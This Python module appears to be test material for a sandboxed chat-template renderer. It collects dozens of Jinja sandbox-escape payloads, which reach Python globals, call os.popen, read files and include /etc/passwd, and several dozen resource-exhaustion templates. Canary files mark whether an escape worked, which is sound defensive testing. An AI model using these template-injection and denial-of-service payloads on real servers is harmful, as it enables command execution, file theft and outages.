"""What a hostile chat template may hold: ways out of the sandbox, and ways to use a machine up.

A way out is a path to an object from which Python reaches files and processes, and what is done
there. Each leaves a mark if it worked: the file at ``canary``, or ``SECRET`` in the prompt.
"""

from itertools import product
from pathlib import Path

SECRET = "canary-secret-41d7"

# Expressions whose value, in plain Jinja, is a mapping of Python's globals or builtins.
_GLOBALS = [
    *("lipsum.__globals__", "cycler.__init__.__globals__", "joiner.__init__.__globals__"),
    *("namespace.__init__.__globals__", "raise_exception.__globals__", "strftime_now.__globals__"),
    "self.__init__.__globals__",
    "self._TemplateReference__context.__init__.__globals__",
    "self._TemplateReference__context.environment.__init__.__globals__",
    "cycler['__init__']['__globals__']",
    "cycler['__in' ~ 'it__']['__glo' ~ 'bals__']",
    "cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f']",
    "(cycler|attr('__init__'))|attr('__globals__')",
    "cycler|attr('__init__')|attr('__globals__')",
    "raise_exception|attr('__glo' ~ 'bals__')",
    "raise_exception|attr(['__globals', '__']|join)",
    "raise_exception|attr('%s%s' % ('__glo', 'bals__'))",
    "raise_exception|attr('__slabolg__'|reverse)",
    "raise_exception|attr('__GLOBALS__'|lower)",
    "raise_exception|attr(dict(__globals__=1)|first)",
    "([raise_exception]|map(attribute='__globals__')|first)",
    "([raise_exception]|map('attr', '__globals__')|first)",
    "([raise_exception]|sort(attribute='__globals__')|first).__globals__",
    "([raise_exception]|selectattr('__globals__')|first).__globals__",
    "([raise_exception]|groupby('__globals__')|first|first)",
    "(cycler|attr('next')).__globals__",
    "messages.__init__.__objclass__.__init__.__globals__",
    "range.__init__.__globals__",
    "caller.__globals__",
    "loop.__init__.__globals__",
    "loop._iterator.gi_frame.f_globals",
    "(messages|map('upper')).gi_frame.f_globals",
    "(messages|map('upper')).gi_frame.f_back.f_back.f_globals",
    "(messages|map('upper')).gi_code.co_consts",
    "(messages|select).gi_frame.f_builtins",
    "raise_exception.__builtins__",
    "raise_exception.__code__.__class__.__init__.__globals__",
    "get_flashed_messages.__globals__",
    "url_for.__globals__",
    "config.__class__.__init__.__globals__",
    "request.application.__globals__",
]
# What is done with them, as a continuation of an expression.
_DEEDS = [
    "['__builtins__']['open']('{canary}', 'w').write('x')",
    "['__builtins__'].open('{secret}').read()",
    "['os'].popen('touch {canary}').read()",
]
# From any object to all classes there are, and from those to one that runs or reads something.
_CLASSES = [
    "''.__class__.__mro__[1].__subclasses__()",
    "''.__class__.__base__.__subclasses__()",
    "().__class__.__bases__[0].__subclasses__()",
    "[].__class__.__mro__[-1].__subclasses__()",
    "{}.__class__.mro()[-1].__subclasses__()",
    "dict.mro()[-1].__subclasses__()",
    "dict.__base__.__subclasses__()",
    "dict|attr('__base__')|attr('__subclasses__')()",
    "(1).__class__.__base__.__subclasses__()",
    "messages.__class__.__base__.__subclasses__()",
    "range(1).__class__.__base__.__subclasses__()",
    "''['__class__']['__base__']['__subclasses__']()",
    "''|attr('__class__')|attr('__base__')|attr('__subclasses__')()",
    "''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('__base__')|attr('__subclasses__')()",
    "(''|attr('__cla' ~ 'ss__')).__base__.__subclasses__()",
    "([''] | map(attribute='__class__') | first).__base__.__subclasses__()",
    "([''] | map('attr', '__class__') | first).__base__.__subclasses__()",
    "([''] | map(attribute='__class__.__base__.__subclasses__') | first)()",
]
_HUNT = (
    "{%- for c in {classes} -%}{%- if c.__name__ == '{name}' -%}{{ c{deed} }}"
    "{%- endif -%}{%- endfor -%}"
)
_HUNTED = [
    ("_wrap_close", ".__init__.__globals__['popen']('touch {canary}').read()"),
    ("FileLoader", "('x', '{secret}').get_data('{secret}')"),
]
_FORMATS = [
    "{{ '{0.__class__.__mro__}'.format('') }}",
    "{{ '{0.__globals__}'.format(raise_exception) }}",
    "{{ '{0.__globals__[SECRET]}'.format(raise_exception) }}",
    "{{ '{x.__globals__}'.format_map({'x': raise_exception}) }}",
    "{{ ('{0.__globals__}'|attr('format'))(raise_exception) }}",
    "{{ (['{0.__globals__}']|map(attribute='format')|first)(raise_exception) }}",
    "{{ ['{0.__globals__}']|map('format', raise_exception)|first }}",
    "{{ '{0.__globals__}'|format(raise_exception) }}",
    "{{ '%(x)s' % {'x': raise_exception.__globals__} }}",
    "{% set f = '{0.__globals__}'.format %}{{ f(raise_exception) }}",
    "{{ ''.join(['{0.__glo', 'bals__}']).format(raise_exception) }}",
    "{{ '{0.__self__}'.format(''.join) }}{{ '{0.__init__.__globals__}'.format(cycler) }}",
]
_FILES = [
    *("{% include '{secret}' %}", "{% include '/etc/passwd' %}", "{% extends '{secret}' %}"),
    "{% import '{secret}' as s %}{{ s }}",
    "{% from '{secret}' import s %}{{ s }}",
    "{% include ['{secret}', '/etc/passwd'] %}",
    "{{ include('{secret}') }}",
    "{{ open('{secret}').read() }}",
    "{{ __import__('os').popen('touch {canary}') }}",
    "{{ [].__class__.__base__.__subclasses__ }}{{ eval('1') }}",
    "{% do messages.append(1) %}{{ exec('1') }}",
    "{{ self.environment.from_string('x') }}",
    "{{ self._TemplateReference__context.environment.globals }}",
    "{% set _ = messages.clear() %}{{ messages.__class__ }}",
    "{% set ns = namespace() %}{% set ns.__class__ = 1 %}{{ ns.__class__ }}",
    "{% set ns = namespace(x=raise_exception) %}{{ ns.x.__globals__['os'] }}",
    "{% set ns = namespace() %}{{ ns._Namespace__attrs }}{{ ns.__init__.__globals__ }}",
    "{% block b %}{{ self.b.__func__.__globals__ }}{% endblock %}",
    "{% block b %}{{ self.b._context.environment.loader }}{{ super.__globals__ }}{% endblock %}",
    "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}",
    "{% macro m() %}{% endmacro %}{{ m._environment.from_string('{{ 1 }}').render() }}",
    "{% macro m() %}{{ caller._func.__globals__ }}{% endmacro %}{% call m() %}{% endcall %}",
    "{% for x in messages recursive %}{{ loop.__call__.__func__.__globals__ }}{% endfor %}",
    "{% for x in messages recursive %}{{ loop._recurse.__globals__ }}{% endfor %}",
    "{{ messages|map('__class__')|list }}",
    "{{ messages|tojson(indent=raise_exception.__globals__) }}",
    "{{ strftime_now.__globals__['os'].environ }}{{ strftime_now('%Y') }}",
    "{{ ''.encode.__self__.__class__ }}{{ ''.__doc__.__class__ }}",
    "{{ ''.__reduce_ex__(2)[0].__globals__ }}",
    "{{ (''.__reduce__)()[0] }}",
    "{{ ''.__dir__() }}{{ ''.__getattribute__('__class__') }}",
    "{{ messages.__getitem__.__self__.__class__.__base__ }}",
]


def escapes(canary: Path, secret: Path) -> list[str]:
    """Every payload, for a file to make and a file to read."""
    found = [f"{{{{ ({path}){deed} }}}}" for path, deed in product(_GLOBALS, _DEEDS)]
    for classes, (name, deed) in product(_CLASSES, _HUNTED):
        hunt = _HUNT.replace("{classes}", classes).replace("{name}", name)
        found.append(hunt.replace("{deed}", deed))
    found += _FORMATS + _FILES
    return [
        text.replace("{canary}", str(canary)).replace("{secret}", str(secret)) for text in found
    ]


_LOOP = "{% for i in range(99999) %}"
_END = "{% endfor %}"

# What each would use up, and the template.
BOMBS = {
    "loops in loops": _LOOP * 4 + _END * 4,
    "loops that write": _LOOP * 2 + "aaaaaaaaaaaaaaaa" + _END * 2,
    "a loop over products": "{% for i in range(99999) %}{% for j in range(99999) %}"
    "{{ i * j }}" + _END * 2,
    "loops that set": "{% set ns = namespace(n=0) %}" + _LOOP * 3 + "{% set ns.n = ns.n + 1 %}"
    + _END * 3,
    "a long centre": "{{ 'a'|center(900000000) }}",
    "a long centre, later": "{{ messages[0].content|center(900000000) }}",
    "a centre that fits the memory": "{{ 'a'|center(60000000) }}",
    "a wide number": "{{ '%0999999999d' % 1 }}",
    "a wide number, later": "{{ '%0999999999d' % messages|length }}",
    "a wide filter": "{{ '%0999999999d'|format(1) }}",
    "a wide field": "{{ '{:>999999999}'.format(1) }}",
    "a text times a number": "{{ 'a' * 10 ** 10 }}",
    "a text times a number, later": "{{ messages[0].content * 10 ** 10 }}",
    "a list times a number": "{{ [0] * 10 ** 9 }}",
    "a power": "{{ 9 ** (9 ** 9) }}",
    "a power, later": "{{ (messages|length + 8) ** (9 ** 9) }}",
    "a large factor": "{% set ns = namespace(n=3) %}" + _LOOP + "{% set ns.n = ns.n * ns.n %}"
    + _END,
    "lipsum": "{{ lipsum(n=100000) }}",
    "doubling": "{% set ns = namespace(s='a') %}" + _LOOP + "{% set ns.s = ns.s ~ ns.s %}" + _END,
    "a doubling list": "{% set ns = namespace(s=[1]) %}" + _LOOP + "{% set ns.s = ns.s + ns.s %}"
    + _END,
    "a macro that calls itself": "{% macro f(n) %}{{ f(n + 1) }}{{ f(n + 2) }}{% endmacro %}"
    "{{ f(0) }}",
    "macros that fan out": "{% macro a() %}" + "{{ b() }}" * 99 + "{% endmacro %}{% macro b() %}"
    + "{{ c() }}" * 99 + "{% endmacro %}{% macro c() %}" + "{{ d() }}" * 99
    + "{% endmacro %}{% macro d() %}" + "x" * 99 + "{% endmacro %}{{ a() }}",
    "a recursive loop": "{% for x in messages recursive %}{{ loop(messages) }}"
    "{{ loop(messages) }}{% endfor %}",
    "deep brackets": "{{ " + "(" * 40_000 + "1" + ")" * 40_000 + " }}",
    "deep lists": "{{ " + "[" * 40_000 + "]" * 40_000 + " }}",
    "deep signs": "{{ " + "-" * 100_000 + "1 }}",
    "a long sum": "{{ " + "1+" * 100_000 + "1 }}",
    "deep blocks": "{% if 1 %}" * 15_000 + "{% endif %}" * 15_000,
    "wide indents": "{{ messages|tojson(indent=99999999) }}",
    "many replacements": "{{ ('a' * 20000).replace('a', 'a' * 20000) }}",
    "a long wordwrap": "{{ ('a ' * 4000000)|wordwrap(1) }}",
    "batches": "{{ range(99999)|batch(99999999, 0)|list|length }}",
    "slices": "{{ range(99999)|slice(99999999)|list|length }}",
    "permutations": "{% for a in 'abcdefghijk' %}" * 12 + "{{ a }}" + _END * 12,
}  # fmt: skip
